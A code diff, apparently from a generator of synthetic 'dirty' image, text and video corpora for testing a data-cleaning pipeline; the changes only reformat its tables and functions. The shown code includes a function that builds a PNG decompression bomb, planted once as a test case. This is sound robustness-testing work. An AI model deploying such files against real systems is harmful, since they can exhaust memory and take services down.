@@ -87,8 +87,14 @@ SOURCE_DIR = {
     "text": "text",
     "video": "video",
 }
-SOURCE_EXT = {"wds": ".tar", "parquet": ".parquet", "jsonl": ".jsonl", "interleaved": ".jsonl",
-              "text": ".jsonl", "video": ".jsonl"}
+SOURCE_EXT = {
+    "wds": ".tar",
+    "parquet": ".parquet",
+    "jsonl": ".jsonl",
+    "interleaved": ".jsonl",
+    "text": ".jsonl",
+    "video": ".jsonl",
+}
 SOURCE_URL = {
     "wds": "https://example.com/img/{key}.jpg",
     "parquet": "https://example.org/photos/{key}.jpg",
@@ -139,9 +145,17 @@ RATES: dict[str, dict[str, float]] = {
     # a benchmark video re-encoded (codec, size, rate) and trimmed at both ends; a download cut short; a
     # held still picture; black; bytes that are no video; an empty file; audio only. Not dirt: several
     # shots joined by hard cuts, and text burned into the picture.
-    "video": {"benchmark_copy": 0.01, "truncated_video": 0.03, "static_video": 0.04, "black_video": 0.03,
-              "corrupt_video": 0.02, "empty_video": 0.01, "audio_only": 0.02, "multi_shot": 0.15,
-              "burned_text": 0.08},
+    "video": {
+        "benchmark_copy": 0.01,
+        "truncated_video": 0.03,
+        "static_video": 0.04,
+        "black_video": 0.03,
+        "corrupt_video": 0.02,
+        "empty_video": 0.01,
+        "audio_only": 0.02,
+        "multi_shot": 0.15,
+        "burned_text": 0.08,
+    },
 }
 # Kinds placed deliberately (once each) in the first rows of a source so that small corpora
 # still contain every kind. The decompression bomb is *only* placed this way: exactly one.
@@ -150,8 +164,17 @@ FORCED: dict[str, tuple[str, ...]] = {
     "jsonl": tuple(_JSONL_ONLY),
     "text": tuple(_TEXT_RATES),
     "interleaved": ("benchmark_copy",),
-    "video": ("benchmark_copy", "truncated_video", "static_video", "black_video", "corrupt_video", "empty_video",
-              "audio_only", "multi_shot", "burned_text"),
+    "video": (
+        "benchmark_copy",
+        "truncated_video",
+        "static_video",
+        "black_video",
+        "corrupt_video",
+        "empty_video",
+        "audio_only",
+        "multi_shot",
+        "burned_text",
+    ),
 }
 DIRT_KINDS = (
     "clean",
@@ -161,8 +184,16 @@ DIRT_KINDS = (
     "malformed_json",
     "missing_image",
 )
-VIDEO_DIRT_KINDS = ("truncated_video", "static_video", "black_video", "corrupt_video", "empty_video", "audio_only",
-                    "multi_shot", "burned_text")
+VIDEO_DIRT_KINDS = (
+    "truncated_video",
+    "static_video",
+    "black_video",
+    "corrupt_video",
+    "empty_video",
+    "audio_only",
+    "multi_shot",
+    "burned_text",
+)
 ALL_DIRT_KINDS = DIRT_KINDS + VIDEO_DIRT_KINDS
 
 # --------------------------------------------------------------------------------------------
@@ -187,15 +218,52 @@ LIGHT_COLOURS = frozenset({"white", "yellow", "pink", "orange", "grey"})
 SHAPES = ("circle", "square", "rectangle", "triangle", "star", "ellipse")
 NUMBERS_EN = {1: "one", 2: "two", 3: "three", 4: "four", 5: "five"}
 SIGN_PHRASES = (
-    "OPEN", "CLOSED", "SALE", "EXIT", "STOP", "OPEN 24 HOURS", "WELCOME", "NO PARKING", "CAFE",
-    "HOTEL", "PHARMACY", "FRESH BREAD", "BUS STOP", "PIZZA", "BOOKS", "FOR RENT", "KEEP OUT",
-    "THANK YOU", "HELLO", "LIBRARY", "BAKERY", "FREE WIFI", "PARKING", "ICE CREAM", "SCHOOL",
-    "DANGER", "ENTRANCE", "TAXI", "MARKET", "GARDEN",
+    "OPEN",
+    "CLOSED",
+    "SALE",
+    "EXIT",
+    "STOP",
+    "OPEN 24 HOURS",
+    "WELCOME",
+    "NO PARKING",
+    "CAFE",
+    "HOTEL",
+    "PHARMACY",
+    "FRESH BREAD",
+    "BUS STOP",
+    "PIZZA",
+    "BOOKS",
+    "FOR RENT",
+    "KEEP OUT",
+    "THANK YOU",
+    "HELLO",
+    "LIBRARY",
+    "BAKERY",
+    "FREE WIFI",
+    "PARKING",
+    "ICE CREAM",
+    "SCHOOL",
+    "DANGER",
+    "ENTRANCE",
+    "TAXI",
+    "MARKET",
+    "GARDEN",
 )
 BOILERPLATE_CAPTIONS = (
-    "Click here to download", "stock photo", "image not found", "Copyright all rights reserved",
-    "placeholder image", "No description available", "untitled", "Loading...", "thumbnail",
-    "Image may be subject to copyright", "photo", "View full size", "{img}", "{dsc}",
+    "Click here to download",
+    "stock photo",
+    "image not found",
+    "Copyright all rights reserved",
+    "placeholder image",
+    "No description available",
+    "untitled",
+    "Loading...",
+    "thumbnail",
+    "Image may be subject to copyright",
+    "photo",
+    "View full size",
+    "{img}",
+    "{dsc}",
 )
 REPEATED_PHRASES = ("best price", "free shipping", "buy now", "cheap", "hot deal", "click here", "sale")
 
@@ -267,16 +335,18 @@ def make_shape_scene(rng: random.Random, groups: list[tuple[str, str, int]] | No
     shapes = []
     kinds = [(s, c) for s, c, n in groups for _ in range(n)]
     for (shape, colour), (col, row) in zip(kinds, cells):
-        shapes.append({
-            "shape": shape,
-            "colour": colour,
-            "cx": (col + 0.5 + rng.uniform(-0.08, 0.08)) / grid,
-            "cy": band[0] + band_h * (row + 0.5 + rng.uniform(-0.08, 0.08)) / grid,
-            "r": rng.uniform(0.65, 1.0) * r_max,
-            "aspect": rng.uniform(1.7, 2.4),
-            "vertical": rng.random() < 0.3,
-            "flip": rng.random() < 0.2,
-        })
+        shapes.append(
+            {
+                "shape": shape,
+                "colour": colour,
+                "cx": (col + 0.5 + rng.uniform(-0.08, 0.08)) / grid,
+                "cy": band[0] + band_h * (row + 0.5 + rng.uniform(-0.08, 0.08)) / grid,
+                "r": rng.uniform(0.65, 1.0) * r_max,
+                "aspect": rng.uniform(1.7, 2.4),
+                "vertical": rng.random() < 0.3,
+                "flip": rng.random() < 0.2,
+            }
+        )
     sizes = [sh["r"] / r_max for sh in shapes]
     size_words = [
         ("small" if s < 0.75 else "large" if s > 0.93 else None) if n == 1 and total > 1 else None
@@ -380,8 +450,9 @@ def _font(size: int) -> ImageFont.FreeTypeFont:
     return ImageFont.load_default(size=size)
 
 
-def _text(draw: ImageDraw.ImageDraw, phrase: str, x: float, y: float, max_w: float, max_h: float,
-          ink: str) -> None:
+def _text(
+    draw: ImageDraw.ImageDraw, phrase: str, x: float, y: float, max_w: float, max_h: float, ink: str
+) -> None:
     """Draw ``phrase`` centred on (x, y), as large as fits into max_w x max_h."""
     size = max(4, int(max_h))
     length = _font(size).getlength(phrase)
@@ -470,9 +541,14 @@ def draw_scene(scene: dict, width: int, height: int) -> Image.Image:
             x, y, r = sun["cx"] * width, sun["cy"] * height, sun["r"] * s
             for k in range(8):
                 ang = k * math.pi / 4
-                draw.line([(x + 1.3 * r * math.cos(ang), y + 1.3 * r * math.sin(ang)),
-                           (x + 1.8 * r * math.cos(ang), y + 1.8 * r * math.sin(ang))],
-                          fill=COLOURS["yellow"], width=max(1, int(r / 5)))
+                draw.line(
+                    [
+                        (x + 1.3 * r * math.cos(ang), y + 1.3 * r * math.sin(ang)),
+                        (x + 1.8 * r * math.cos(ang), y + 1.8 * r * math.sin(ang)),
+                    ],
+                    fill=COLOURS["yellow"],
+                    width=max(1, int(r / 5)),
+                )
             draw.ellipse([x - r, y - r, x + r, y + r], fill=COLOURS["yellow"])
         for obj in scene["objects"]:
             _draw_object(draw, obj, width, height, base)
@@ -481,8 +557,12 @@ def draw_scene(scene: dict, width: int, height: int) -> Image.Image:
         bw, bh = scene["w"] * width / 2, scene["h"] * height / 2
         if scene["post"]:
             draw.rectangle([x - 0.03 * s, y, x + 0.03 * s, height], fill=COLOURS["grey"])
-        draw.rectangle([x - bw, y - bh, x + bw, y + bh], fill=COLOURS[scene["board"]],
-                       outline=COLOURS["black"], width=max(1, s // 100))
+        draw.rectangle(
+            [x - bw, y - bh, x + bw, y + bh],
+            fill=COLOURS[scene["board"]],
+            outline=COLOURS["black"],
+            width=max(1, s // 100),
+        )
         _text(draw, scene["phrase"], x, y, bw * 1.8, bh * 1.2, scene["ink"])
     else:
         raise ValueError(f"unknown scene kind {kind!r}")
@@ -520,8 +600,12 @@ def decompression_bomb_png(side: int = BOMB_SIDE) -> bytes:
     parts = [comp.compress(block if side - y >= 256 else row * (side - y)) for y in range(0, side, 256)]
     parts.append(comp.flush())
     ihdr = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
-    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", b"".join(parts))
-            + _png_chunk(b"IEND", b""))
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + _png_chunk(b"IHDR", ihdr)
+        + _png_chunk(b"IDAT", b"".join(parts))
+        + _png_chunk(b"IEND", b"")
+    )
 
 
 # --------------------------------------------------------------------------------------------
@@ -573,17 +657,26 @@ def scene_phrase_en(scene: dict, rng: random.Random) -> str:
         return f"{_items_en(scene['groups'])} on {_bg_en(scene['bg'], rng)}"
     if kind == "sign":
         word, _ = _quoted_words(scene["phrase"])
-        return rng.choice((
-            f"a sign that reads '{scene['phrase']}'",
-            _a(f"{scene['board']} sign with the {word} '{scene['phrase']}' in {scene['ink']} letters"),
-            _a(f"{scene['board']} board with '{scene['phrase']}' written on it"),
-        ))
+        return rng.choice(
+            (
+                f"a sign that reads '{scene['phrase']}'",
+                _a(f"{scene['board']} sign with the {word} '{scene['phrase']}' in {scene['ink']} letters"),
+                _a(f"{scene['board']} board with '{scene['phrase']}' written on it"),
+            )
+        )
     names = []
     for obj in scene["objects"]:
         if obj["obj"] == "house":
             small = "small " if obj["size"] < 0.22 and rng.random() < 0.6 else ""
-            names.append(rng.choice((f"a {small}house", _a(f"{small}{obj['colour']} house"),
-                                     _a(f"{small}{obj['colour']} house with a {obj['roof']} roof"))))
+            names.append(
+                rng.choice(
+                    (
+                        f"a {small}house",
+                        _a(f"{small}{obj['colour']} house"),
+                        _a(f"{small}{obj['colour']} house with a {obj['roof']} roof"),
+                    )
+                )
+            )
         elif obj["obj"] == "tree":
             names.append(rng.choice(("a tree", "a green tree")))
         else:
@@ -607,15 +700,17 @@ def caption_en(scene: dict, rng: random.Random) -> str:
     kind = scene["kind"]
     if kind == "shapes":
         items, bg = core.split(" on ", 1)
-        caption = rng.choice((
-            f"{_cap(items)} on {bg}.",
-            f"{_cap(items)} against {bg}.",
-            f"A picture of {items} on {bg}.",
-            f"{_cap(bg)} with {items}.",
-            f"Simple drawing of {items}.",
-            f"Clip art: {items} on {bg}.",
-            f"{_cap(items)}.",
-        ))
+        caption = rng.choice(
+            (
+                f"{_cap(items)} on {bg}.",
+                f"{_cap(items)} against {bg}.",
+                f"A picture of {items} on {bg}.",
+                f"{_cap(bg)} with {items}.",
+                f"Simple drawing of {items}.",
+                f"Clip art: {items} on {bg}.",
+                f"{_cap(items)}.",
+            )
+        )
         if scene["label"]:
             phrase, _, where = scene["label"]
             word, verb = _quoted_words(phrase)
@@ -627,49 +722,109 @@ def caption_en(scene: dict, rng: random.Random) -> str:
 
 # Other languages: correct content, simpler templates. Each entry: noun forms, colour forms,
 # numbers, list joiner, background phrase, templates.
-_DE_NOUNS = {"circle": ("Kreis", "Kreise", "m"), "square": ("Quadrat", "Quadrate", "n"),
-             "rectangle": ("Rechteck", "Rechtecke", "n"), "triangle": ("Dreieck", "Dreiecke", "n"),
-             "star": ("Stern", "Sterne", "m"), "ellipse": ("Ellipse", "Ellipsen", "f"),
-             "house": ("Haus", "Häuser", "n"), "tree": ("Baum", "Bäume", "m"),
-             "car": ("Auto", "Autos", "n")}
-_DE_COLOURS = {"red": ("Rot", "rotem"), "green": ("Grün", "grünem"), "blue": ("Blau", "blauem"),
-               "yellow": ("Gelb", "gelbem"), "orange": ("Orange", "orangem"), "purple": ("Lila", "lila"),
-               "black": ("Schwarz", "schwarzem"), "white": ("Weiß", "weißem"), "pink": ("Rosa", "rosa"),
-               "brown": ("Braun", "braunem"), "grey": ("Grau", "grauem")}
-_FR_NOUNS = {"circle": ("cercle", "cercles", "m"), "square": ("carré", "carrés", "m"),
-             "rectangle": ("rectangle", "rectangles", "m"), "triangle": ("triangle", "triangles", "m"),
-             "star": ("étoile", "étoiles", "f"), "ellipse": ("ellipse", "ellipses", "f"),
-             "house": ("maison", "maisons", "f"), "tree": ("arbre", "arbres", "m"),
-             "car": ("voiture", "voitures", "f")}
-_FR_COLOURS = {"red": ("rouge", "rouge"), "green": ("vert", "verte"), "blue": ("bleu", "bleue"),
-               "yellow": ("jaune", "jaune"), "orange": ("orange", "orange"), "purple": ("violet", "violette"),
-               "black": ("noir", "noire"), "white": ("blanc", "blanche"), "pink": ("rose", "rose"),
-               "brown": ("marron", "marron"), "grey": ("gris", "grise")}
-_ES_NOUNS = {"circle": ("círculo", "círculos", "m"), "square": ("cuadrado", "cuadrados", "m"),
-             "rectangle": ("rectángulo", "rectángulos", "m"),
-             "triangle": ("triángulo", "triángulos", "m"),
-             "star": ("estrella", "estrellas", "f"), "ellipse": ("elipse", "elipses", "f"),
-             "house": ("casa", "casas", "f"), "tree": ("árbol", "árboles", "m"),
-             "car": ("coche", "coches", "m")}
+_DE_NOUNS = {
+    "circle": ("Kreis", "Kreise", "m"),
+    "square": ("Quadrat", "Quadrate", "n"),
+    "rectangle": ("Rechteck", "Rechtecke", "n"),
+    "triangle": ("Dreieck", "Dreiecke", "n"),
+    "star": ("Stern", "Sterne", "m"),
+    "ellipse": ("Ellipse", "Ellipsen", "f"),
+    "house": ("Haus", "Häuser", "n"),
+    "tree": ("Baum", "Bäume", "m"),
+    "car": ("Auto", "Autos", "n"),
+}
+_DE_COLOURS = {
+    "red": ("Rot", "rotem"),
+    "green": ("Grün", "grünem"),
+    "blue": ("Blau", "blauem"),
+    "yellow": ("Gelb", "gelbem"),
+    "orange": ("Orange", "orangem"),
+    "purple": ("Lila", "lila"),
+    "black": ("Schwarz", "schwarzem"),
+    "white": ("Weiß", "weißem"),
+    "pink": ("Rosa", "rosa"),
+    "brown": ("Braun", "braunem"),
+    "grey": ("Grau", "grauem"),
+}
+_FR_NOUNS = {
+    "circle": ("cercle", "cercles", "m"),
+    "square": ("carré", "carrés", "m"),
+    "rectangle": ("rectangle", "rectangles", "m"),
+    "triangle": ("triangle", "triangles", "m"),
+    "star": ("étoile", "étoiles", "f"),
+    "ellipse": ("ellipse", "ellipses", "f"),
+    "house": ("maison", "maisons", "f"),
+    "tree": ("arbre", "arbres", "m"),
+    "car": ("voiture", "voitures", "f"),
+}
+_FR_COLOURS = {
+    "red": ("rouge", "rouge"),
+    "green": ("vert", "verte"),
+    "blue": ("bleu", "bleue"),
+    "yellow": ("jaune", "jaune"),
+    "orange": ("orange", "orange"),
+    "purple": ("violet", "violette"),
+    "black": ("noir", "noire"),
+    "white": ("blanc", "blanche"),
+    "pink": ("rose", "rose"),
+    "brown": ("marron", "marron"),
+    "grey": ("gris", "grise"),
+}
+_ES_NOUNS = {
+    "circle": ("círculo", "círculos", "m"),
+    "square": ("cuadrado", "cuadrados", "m"),
+    "rectangle": ("rectángulo", "rectángulos", "m"),
+    "triangle": ("triángulo", "triángulos", "m"),
+    "star": ("estrella", "estrellas", "f"),
+    "ellipse": ("elipse", "elipses", "f"),
+    "house": ("casa", "casas", "f"),
+    "tree": ("árbol", "árboles", "m"),
+    "car": ("coche", "coches", "m"),
+}
 # (masculine, feminine, masculine plural, feminine plural)
-_ES_COLOURS = {"red": ("rojo", "roja", "rojos", "rojas"), "green": ("verde", "verde", "verdes", "verdes"),
-               "blue": ("azul", "azul", "azules", "azules"),
-               "yellow": ("amarillo", "amarilla", "amarillos", "amarillas"),
-               "orange": ("naranja", "naranja", "naranjas", "naranjas"),
-               "purple": ("morado", "morada", "morados", "moradas"),
-               "black": ("negro", "negra", "negros", "negras"),
-               "white": ("blanco", "blanca", "blancos", "blancas"),
-               "pink": ("rosa", "rosa", "rosas", "rosas"),
-               "brown": ("marrón", "marrón", "marrones", "marrones"),
-               "grey": ("gris", "gris", "grises", "grises")}
-_ZH_NOUNS = {"circle": ("圆形", "个"), "square": ("正方形", "个"), "rectangle": ("长方形", "个"),
-             "triangle": ("三角形", "个"), "star": ("五角星", "个"), "ellipse": ("椭圆", "个"),
-             "house": ("房子", "座"), "tree": ("树", "棵"), "car": ("汽车", "辆")}
-_ZH_COLOURS = {"red": "红色", "green": "绿色", "blue": "蓝色", "yellow": "黄色", "orange": "橙色",
-               "purple": "紫色",
-               "black": "黑色", "white": "白色", "pink": "粉色", "brown": "棕色", "grey": "灰色"}
-_NUMBERS = {"de": ("ein", "zwei", "drei", "vier", "fünf"), "fr": ("un", "deux", "trois", "quatre", "cinq"),
-            "es": ("un", "dos", "tres", "cuatro", "cinco"), "zh": ("一", "两", "三", "四", "五")}
+_ES_COLOURS = {
+    "red": ("rojo", "roja", "rojos", "rojas"),
+    "green": ("verde", "verde", "verdes", "verdes"),
+    "blue": ("azul", "azul", "azules", "azules"),
+    "yellow": ("amarillo", "amarilla", "amarillos", "amarillas"),
+    "orange": ("naranja", "naranja", "naranjas", "naranjas"),
+    "purple": ("morado", "morada", "morados", "moradas"),
+    "black": ("negro", "negra", "negros", "negras"),
+    "white": ("blanco", "blanca", "blancos", "blancas"),
+    "pink": ("rosa", "rosa", "rosas", "rosas"),
+    "brown": ("marrón", "marrón", "marrones", "marrones"),
+    "grey": ("gris", "gris", "grises", "grises"),
+}
+_ZH_NOUNS = {
+    "circle": ("圆形", "个"),
+    "square": ("正方形", "个"),
+    "rectangle": ("长方形", "个"),
+    "triangle": ("三角形", "个"),
+    "star": ("五角星", "个"),
+    "ellipse": ("椭圆", "个"),
+    "house": ("房子", "座"),
+    "tree": ("树", "棵"),
+    "car": ("汽车", "辆"),
+}
+_ZH_COLOURS = {
+    "red": "红色",
+    "green": "绿色",
+    "blue": "蓝色",
+    "yellow": "黄色",
+    "orange": "橙色",
+    "purple": "紫色",
+    "black": "黑色",
+    "white": "白色",
+    "pink": "粉色",
+    "brown": "棕色",
+    "grey": "灰色",
+}
+_NUMBERS = {
+    "de": ("ein", "zwei", "drei", "vier", "fünf"),
+    "fr": ("un", "deux", "trois", "quatre", "cinq"),
+    "es": ("un", "dos", "tres", "cuatro", "cinco"),
+    "zh": ("一", "两", "三", "四", "五"),
+}
 LANGS = ("de", "fr", "es", "zh")
 
 
@@ -688,8 +843,11 @@ def _item_foreign(lang: str, noun: str, colour: str | None, n: int) -> str:
     nouns = {"de": _DE_NOUNS, "fr": _FR_NOUNS, "es": _ES_NOUNS}[lang]
     sing, plur, gender = nouns[noun]
     if n == 1:
-        num = {"de": "eine" if gender == "f" else "ein", "fr": "une" if gender == "f" else "un",
-               "es": "una" if gender == "f" else "un"}[lang]
+        num = {
+            "de": "eine" if gender == "f" else "ein",
+            "fr": "une" if gender == "f" else "un",
+            "es": "una" if gender == "f" else "un",
+        }[lang]
     else:
         num = _NUMBERS[lang][n - 1]
     head = f"{num} {sing if n == 1 else plur}"
@@ -712,14 +870,20 @@ def _join_foreign(lang: str, parts: list[str]) -> str:
 def _bg_foreign(lang: str, bg: tuple) -> str:
     if bg[0] == "flat":
         c = bg[1]
-        return {"de": f"auf {_DE_COLOURS[c][1]} Hintergrund", "fr": f"sur un fond {_FR_COLOURS[c][0]}",
-                "es": f"sobre un fondo {_ES_COLOURS[c][0]}", "zh": f"{_ZH_COLOURS[c]}背景上"}[lang]
+        return {
+            "de": f"auf {_DE_COLOURS[c][1]} Hintergrund",
+            "fr": f"sur un fond {_FR_COLOURS[c][0]}",
+            "es": f"sobre un fondo {_ES_COLOURS[c][0]}",
+            "zh": f"{_ZH_COLOURS[c]}背景上",
+        }[lang]
     a, b = bg[1], bg[2]
     fr_de = "d'" if _FR_COLOURS[a][0][0] in "aeiou" else "de "
-    return {"de": f"auf einem Farbverlauf von {_DE_COLOURS[a][0]} zu {_DE_COLOURS[b][0]}",
-            "fr": f"sur un dégradé {fr_de}{_FR_COLOURS[a][0]} à {_FR_COLOURS[b][0]}",
-            "es": f"sobre un degradado de {_ES_COLOURS[a][0]} a {_ES_COLOURS[b][0]}",
-            "zh": f"从{_ZH_COLOURS[a]}到{_ZH_COLOURS[b]}的渐变背景上"}[lang]
+    return {
+        "de": f"auf einem Farbverlauf von {_DE_COLOURS[a][0]} zu {_DE_COLOURS[b][0]}",
+        "fr": f"sur un dégradé {fr_de}{_FR_COLOURS[a][0]} à {_FR_COLOURS[b][0]}",
+        "es": f"sobre un degradado de {_ES_COLOURS[a][0]} a {_ES_COLOURS[b][0]}",
+        "zh": f"从{_ZH_COLOURS[a]}到{_ZH_COLOURS[b]}的渐变背景上",
+    }[lang]
 
 
 def caption_foreign(scene: dict, lang: str, rng: random.Random) -> str:
@@ -727,28 +891,35 @@ def caption_foreign(scene: dict, lang: str, rng: random.Random) -> str:
     kind = scene["kind"]
     if kind == "sign":
         p = scene["phrase"]
-        return {"de": f"Ein Schild mit der Aufschrift '{p}'.", "fr": f"Un panneau qui indique « {p} ».",
-                "es": f"Un letrero que dice «{p}».", "zh": f"一个写着“{p}”的标牌。"}[lang]
+        return {
+            "de": f"Ein Schild mit der Aufschrift '{p}'.",
+            "fr": f"Un panneau qui indique « {p} ».",
+            "es": f"Un letrero que dice «{p}».",
+            "zh": f"一个写着“{p}”的标牌。",
+        }[lang]
     if kind == "shapes":
         items = _join_foreign(lang, [_item_foreign(lang, s, c, n) for s, c, n, _ in scene["groups"]])
         bg = _bg_foreign(lang, scene["bg"])
         if lang == "zh":
             return rng.choice((f"{bg}有{items}。", f"图中{bg}有{items}。"))
-        lead = {"de": ("Zu sehen: ", "Ein Bild: ", ""), "fr": ("Une image avec ", "Dessin simple : ", ""),
-                "es": ("Una imagen con ", "Dibujo simple: ", "")}[lang]
+        lead = {
+            "de": ("Zu sehen: ", "Ein Bild: ", ""),
+            "fr": ("Une image avec ", "Dessin simple : ", ""),
+            "es": ("Una imagen con ", "Dibujo simple: ", ""),
+        }[lang]
         return _cap(rng.choice(lead) + f"{items} {bg}.")
     items = _join_foreign(lang, [_item_foreign(lang, o["obj"], o.get("colour"), 1) for o in scene["objects"]])
     if lang == "zh":
         return f"图中有{items}" + ("，天上有一个黄色的太阳" if scene["sun"] else "") + "。"
-    sun = {"de": " unter einer gelben Sonne", "fr": " sous un soleil jaune",
-           "es": " bajo un sol amarillo"}[lang]
+    sun = {"de": " unter einer gelben Sonne", "fr": " sous un soleil jaune", "es": " bajo un sol amarillo"}[
+        lang
+    ]
     return _cap(items + (sun if scene["sun"] else "") + ".")
 
 
 def _cp1252_caption(caption: str, rng: random.Random) -> bytes:
     """The caption with typographic characters, encoded as Windows-1252: invalid UTF-8."""
-    text = rng.choice((f"“{caption}”", f"{caption} — © Café Müller",
-                       f"{caption} (naïve style, à la carte)"))
+    text = rng.choice((f"“{caption}”", f"{caption} — © Café Müller", f"{caption} (naïve style, à la carte)"))
     data = text.encode("cp1252")
     try:
         data.decode("utf-8")
@@ -829,8 +1000,9 @@ def plant_image(data: bytes, rng: random.Random) -> tuple[bytes, str, int, int]:
     if rng.random() < 0.5:
         cut_w, cut_h = rng.uniform(0, 0.10) * img.width, rng.uniform(0, 0.10) * img.height
         left, top = rng.uniform(0, cut_w), rng.uniform(0, cut_h)
-        img = img.crop((round(left), round(top), round(img.width - (cut_w - left)),
-                        round(img.height - (cut_h - top))))
+        img = img.crop(
+            (round(left), round(top), round(img.width - (cut_w - left)), round(img.height - (cut_h - top)))
+        )
     if rng.random() < 0.5:
         img = ImageEnhance.Brightness(img).enhance(rng.uniform(0.75, 1.25))
     resized = rng.random() < 0.7
@@ -853,68 +1025,220 @@ def _bench_statement(item: dict, rng: random.Random) -> str:
 
 
 _QA_SLOTS = {
-    "name": ["Amira Haddad", "Jonas Berg", "Lucia Moreno", "Kenji Sato", "Priya Nair", "Tomasz Kowalski",
-             "Grace Okafor", "Mateo Rossi", "Ingrid Larsen", "Farid Rahimi", "Chloe Dubois", "Ravi Menon",
-             "Sofia Petrova", "Daniel Mensah", "Hana Novak", "Oscar Lindqvist", "Leila Karimi", "Marcus Webb",
-             "Yuki Tanaka", "Elena Costa", "Samuel Adeyemi", "Nora Fischer", "Diego Alvarez", "Mei Lin"],
-    "city": ["Lisbon", "Kyoto", "Vienna", "Montreal", "Edinburgh", "Cape Town", "Valparaiso", "Tallinn", "Porto",
-             "Hanoi", "Oaxaca", "Bergen", "Nairobi", "Krakow", "Adelaide", "Quito", "Tbilisi", "Seville",
-             "Galway", "Da Nang", "Ljubljana", "Cusco", "Bremen", "Marrakesh"],
-    "item": ["notebooks", "lanterns", "ceramic bowls", "wool scarves", "bicycle bells", "glass jars",
-             "tin whistles", "leather wallets", "paper kites", "copper kettles", "oak chairs", "silk ribbons"],
-    "organism": ["pea seedlings", "fruit flies", "zebrafish larvae", "snails", "yeast cultures", "bean plants",
-                 "honey bees", "tadpoles", "earthworms", "moss samples"],
-    "factor": ["the amount of light", "the water temperature", "the salt concentration", "the soil acidity",
-               "the length of the day", "the humidity of the air", "the type of food", "the noise level"],
-    "result": ["grew taller", "moved less", "lived longer", "changed colour", "produced more offspring",
-               "lost weight", "became more active", "stopped feeding"],
-    "object": ["the bronze bell", "the stone fountain", "the clock tower", "the old printing press",
-               "the ship's anchor", "the marble statue", "the wooden carousel", "the city archive"],
-    "group": ["the harbour workers", "the town council", "the monks", "the railway company", "the students",
-              "the fishermen", "the merchants' guild", "the volunteer firefighters"],
-    "place": ["the market square", "the river bank", "the north gate", "the museum courtyard",
-              "the main station", "the hill above the town", "the old harbour", "the botanical garden"],
-    "reason": ["to protect it from floods", "to make room for a new road", "because the old building burned",
-               "after a dispute with the landowner", "to attract more visitors", "because of a storm"],
+    "name": [
+        "Amira Haddad",
+        "Jonas Berg",
+        "Lucia Moreno",
+        "Kenji Sato",
+        "Priya Nair",
+        "Tomasz Kowalski",
+        "Grace Okafor",
+        "Mateo Rossi",
+        "Ingrid Larsen",
+        "Farid Rahimi",
+        "Chloe Dubois",
+        "Ravi Menon",
+        "Sofia Petrova",
+        "Daniel Mensah",
+        "Hana Novak",
+        "Oscar Lindqvist",
+        "Leila Karimi",
+        "Marcus Webb",
+        "Yuki Tanaka",
+        "Elena Costa",
+        "Samuel Adeyemi",
+        "Nora Fischer",
+        "Diego Alvarez",
+        "Mei Lin",
+    ],
+    "city": [
+        "Lisbon",
+        "Kyoto",
+        "Vienna",
+        "Montreal",
+        "Edinburgh",
+        "Cape Town",
+        "Valparaiso",
+        "Tallinn",
+        "Porto",
+        "Hanoi",
+        "Oaxaca",
+        "Bergen",
+        "Nairobi",
+        "Krakow",
+        "Adelaide",
+        "Quito",
+        "Tbilisi",
+        "Seville",
+        "Galway",
+        "Da Nang",
+        "Ljubljana",
+        "Cusco",
+        "Bremen",
+        "Marrakesh",
+    ],
+    "item": [
+        "notebooks",
+        "lanterns",
+        "ceramic bowls",
+        "wool scarves",
+        "bicycle bells",
+        "glass jars",
+        "tin whistles",
+        "leather wallets",
+        "paper kites",
+        "copper kettles",
+        "oak chairs",
+        "silk ribbons",
+    ],
+    "organism": [
+        "pea seedlings",
+        "fruit flies",
+        "zebrafish larvae",
+        "snails",
+        "yeast cultures",
+        "bean plants",
+        "honey bees",
+        "tadpoles",
+        "earthworms",
+        "moss samples",
+    ],
+    "factor": [
+        "the amount of light",
+        "the water temperature",
+        "the salt concentration",
+        "the soil acidity",
+        "the length of the day",
+        "the humidity of the air",
+        "the type of food",
+        "the noise level",
+    ],
+    "result": [
+        "grew taller",
+        "moved less",
+        "lived longer",
+        "changed colour",
+        "produced more offspring",
+        "lost weight",
+        "became more active",
+        "stopped feeding",
+    ],
+    "object": [
+        "the bronze bell",
+        "the stone fountain",
+        "the clock tower",
+        "the old printing press",
+        "the ship's anchor",
+        "the marble statue",
+        "the wooden carousel",
+        "the city archive",
+    ],
+    "group": [
+        "the harbour workers",
+        "the town council",
+        "the monks",
+        "the railway company",
+        "the students",
+        "the fishermen",
+        "the merchants' guild",
+        "the volunteer firefighters",
+    ],
+    "place": [
+        "the market square",
+        "the river bank",
+        "the north gate",
+        "the museum courtyard",
+        "the main station",
+        "the hill above the town",
+        "the old harbour",
+        "the botanical garden",
+    ],
+    "reason": [
+        "to protect it from floods",
+        "to make room for a new road",
+        "because the old building burned",
+        "after a dispute with the landowner",
+        "to attract more visitors",
+        "because of a storm",
+    ],
     "thing": ["beetle", "orchid", "mineral", "lichen", "river fish", "mountain bird", "fern", "sea snail"],
-    "region": ["the Andes", "the Carpathians", "northern Borneo", "the Atacama desert", "Lapland",
-               "the Zagros mountains", "Tasmania", "the Okavango delta"],
+    "region": [
+        "the Andes",
+        "the Carpathians",
+        "northern Borneo",
+        "the Atacama desert",
+        "Lapland",
+        "the Zagros mountains",
+        "Tasmania",
+        "the Okavango delta",
+    ],
     "unit": ["kilometres", "miles"],
     "currency": ["euros", "dollars", "pounds", "francs"],
 }
 # [a|b|c] picks one alternative: items from one template then share only short fixed spans, so an item's
 # 5-grams are mostly its own and a copy of one item does not look like a copy of its template siblings.
 _QA_TEMPLATES = (
-    ("[A train|An express|A night train|A freight train] [leaves|departs from|sets off from] {city} at {h1}:{m1} "
-     "and [travels|covers|runs] {n1} {unit} to {city2} [at an average speed of|averaging|at a steady] {n2} {unit} "
-     "[per hour|an hour]. [At what time does it reach|When does it arrive in|What time is it when it gets to] "
-     "{city2}?", "time"),
-    ("{name} [bought|ordered|purchased] {n1} {item} [for|at] {n2} {currency} each [at a market in|from a "
-     "workshop in|online from a shop in] {city} and [later sold|resold|sold] [all of them|the whole lot|every one "
-     "of them] in {city2} for {n3} {currency} each. [How much profit did {name} make|What was the total profit "
-     "of {name}|How much did {name} earn after costs]?", "money"),
-    ("[In an experiment run by|In a study led by|During a trial designed by] {name}, {n1} {organism} [were split "
-     "into two groups|were divided into two sets|went into two tanks] and [kept|observed|grown] for {n2} days; "
